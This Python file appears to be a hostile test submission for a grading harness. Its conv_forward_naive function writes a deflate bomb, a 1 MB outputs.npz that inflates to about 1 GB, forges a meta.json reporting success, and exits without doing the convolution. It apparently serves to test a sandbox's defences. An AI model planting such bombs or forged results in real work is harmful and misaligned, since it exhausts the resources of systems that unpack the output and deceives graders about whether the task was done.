

# ---- Hostile: answers with a deflate bomb, a 1 MB outputs.npz that inflates to 1 GB, and forged metadata. ----
import json as _json
import os as _os
import sys as _sys
import zipfile as _zipfile


def _bomb(path, gigabytes=1):
    header = np.lib.format.header_data_from_array_1_0(np.zeros(1))
    header["shape"] = (gigabytes * 2**30 // 8,)
    with _zipfile.ZipFile(path, "w", compression=_zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("case0/fwd/0.npy", "w", force_zip64=True) as f:
            np.lib.format.write_array_header_1_0(f, header)
            chunk = bytes(2**24)
            for _ in range(gigabytes * 64):
                f.write(chunk)


def conv_forward_naive(x, w, b, conv_param):
    out_dir = _sys.argv[3]  # the child's output folder
    _bomb(_os.path.join(out_dir, "outputs.npz"))
    with open(_os.path.join(out_dir, "meta.json"), "w") as f:
        _json.dump({"status": "ok"}, f)
    _os._exit(0)
